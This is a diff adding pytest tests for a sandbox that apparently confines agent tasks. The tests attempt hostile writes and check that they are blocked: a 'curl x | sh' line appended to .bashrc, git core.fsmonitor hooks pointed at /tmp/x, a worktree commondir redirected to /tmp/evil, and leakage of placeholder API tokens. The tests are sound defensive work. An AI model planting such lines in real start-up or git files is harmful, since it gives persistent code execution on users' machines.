@@ -326,3 +326,76 @@ def test_a_sessions_agent_runs_in_the_sandbox(tmp_path: Path) -> None:
         os.kill(pid, 0)  # still there
         assert k.request("session_show", session_id=created["session_id"])["status"] == "ACTIVE"
         assert k.terminate() == 0
+
+
+def _in_box(box: sandbox.Sandbox, script: str, env: dict[str, str] | None = None) -> str:
+    done = subprocess.run(
+        box.wrap(["/bin/sh", "-c", script]),
+        env=box.env(env if env is not None else dict(os.environ)),
+        capture_output=True,
+        text=True,
+        timeout=30,
+        check=False,
+    )
+    return done.stdout + done.stderr
+
+
+@needs_bwrap
+def test_nested_repositories_and_the_owners_startup_files_stay_read_only(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # the task works in the owner's whole home: their shell and git start-up files and
+    # every repository in it are read-only, what else is there is writable
+    owner = tmp_path / "owner"
+    (owner / "src" / "app").mkdir(parents=True)
+    subprocess.run(["git", "init", "-q", str(owner / "src" / "app")], check=True)
+    (owner / ".bashrc").write_text("# mine\n")
+    (owner / ".gitconfig").write_text("[user]\n\tname = me\n")
+    monkeypatch.setenv("HOME", str(owner))
+    box = sandbox.Sandbox("h", "t", owner)
+    _in_box(
+        box,
+        "echo 'curl x | sh' >> .bashrc; printf '[core]\\n\\tfsmonitor = /tmp/x\\n' >> .gitconfig;"
+        " git -C src/app config core.fsmonitor /tmp/x; echo ok > notes.txt",
+    )
+    assert (owner / ".bashrc").read_text() == "# mine\n"
+    assert "fsmonitor" not in (owner / ".gitconfig").read_text()
+    assert "fsmonitor" not in (owner / "src" / "app" / ".git" / "config").read_text()
+    assert (owner / "notes.txt").read_text() == "ok\n"
+
+
+@needs_bwrap
+def test_a_worktrees_admin_files_cannot_point_the_owners_git_elsewhere(tmp_path: Path) -> None:
+    repo = tmp_path / "repo"
+    subprocess.run(["git", "init", "-q", "-b", "main", str(repo)], check=True)
+    git = ["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@t"]
+    subprocess.run([*git, "commit", "-q", "--allow-empty", "-m", "first"], check=True)
+    worktree = repo / ".worktrees" / "t1"
+    subprocess.run([*git, "worktree", "add", "-q", "-b", "pfar/t1", str(worktree)], check=True)
+    admin = repo / ".git" / "worktrees" / "t1"
+    before = (admin / "commondir").read_text()
+    (worktree / "sub").mkdir()  # a task started in a folder of the worktree
+    said = _in_box(
+        sandbox.Sandbox("h", "t", worktree / "sub"),
+        f"echo /tmp/evil > {admin}/commondir; echo '[core]' > {admin}/config.worktree;"
+        " echo hi > new.txt && git add new.txt && git diff --cached --name-only",
+    )
+    assert (admin / "commondir").read_text() == before
+    assert not (admin / "config.worktree").read_text().strip()
+    assert "sub/new.txt" in said, said  # git add works from a folder of the worktree
+
+
+@needs_bwrap
+def test_a_sandbox_gets_only_the_basics_of_the_kernels_environment(tmp_path: Path) -> None:
+    inherited = {**os.environ, "GH_TOKEN": "ghp_inherited", "ANTHROPIC_API_KEY": "sk-x"}
+    os.environ.update({"GH_TOKEN": "ghp_inherited", "ANTHROPIC_API_KEY": "sk-x"})
+    try:
+        plain = sandbox.Sandbox("h", "t", tmp_path)
+        passed = sandbox.Sandbox("h", "t", tmp_path, pass_env=frozenset({"ANTHROPIC_API_KEY"}))
+        script = "echo gh=$GH_TOKEN key=$ANTHROPIC_API_KEY set=$SET_BY_TOOL path=${PATH:+yes}"
+        env = {**inherited, "SET_BY_TOOL": "v"}
+        assert _in_box(plain, script, env).strip() == "gh= key= set=v path=yes"
+        assert _in_box(passed, script, env).strip() == "gh= key=sk-x set=v path=yes"
+    finally:
+        for name in ("GH_TOKEN", "ANTHROPIC_API_KEY"):
+            os.environ.pop(name, None)
